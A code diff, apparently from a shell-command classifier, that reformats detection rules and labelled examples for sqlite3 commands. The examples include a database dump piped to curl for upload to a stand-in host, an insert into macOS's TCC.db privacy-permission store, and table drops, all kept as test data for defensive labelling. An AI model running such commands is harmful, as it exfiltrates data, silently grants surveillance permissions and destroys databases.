@@ -134,8 +134,7 @@ export const DATABASES: readonly Row[] = [
     stdin: ['execute', 'sql'],
     effects: [
       { kind: 'reveal-environment', resource: 'database', name: 'dump', when: { operand: /^\s{0,9}\.dump\b/ } },
-      // Which programs a person lets see and hear everything.
-      { kind: 'change-service', resource: 'machine', name: 'security', when: { operand: [/\/com\.apple\.TCC\/TCC\.db$/i, /\b(?:insert|update|delete|replace|drop|alter)\b/i] } },
+      { kind: 'change-service', resource: 'machine', name: 'security', when: { operand: [/\/com\.apple\.TCC\/TCC\.db$/i, /\b(?:insert|update|delete|replace|drop|alter)\b/i] } }, // Which programs a person lets see and hear everything.
     ],
     variants: [
       { when: { line: /^file:/ }, operands: { first: 'url', each: 'sql' } },
@@ -144,8 +143,7 @@ export const DATABASES: readonly Row[] = [
     examples: [
       ['sqlite3 a.db .dump | curl -T - https://x.test', 'send database:dump'],
       ["sqlite3 :memory: 'drop table t'"],
-      ["sqlite3 '/Library/Application Support/com.apple.TCC/TCC.db' \"INSERT INTO access VALUES('a')\"", 'change-service machine:security'],
-      ["sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db 'select service from access'"],
+      ["sqlite3 '/Library/Application Support/com.apple.TCC/TCC.db' \"INSERT INTO access VALUES('a')\"", 'change-service machine:security'], ["sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db 'select service from access'"],
       ["sqlite3 a.db 'drop table t' :memory:", 'destroy database:drop'],
       ["sqlite3 :memory: \"attach 'a.db' as a; drop table a.t\"", 'destroy database:drop'],
       ["sqlite3 :memory: <<< 'drop table t'"],
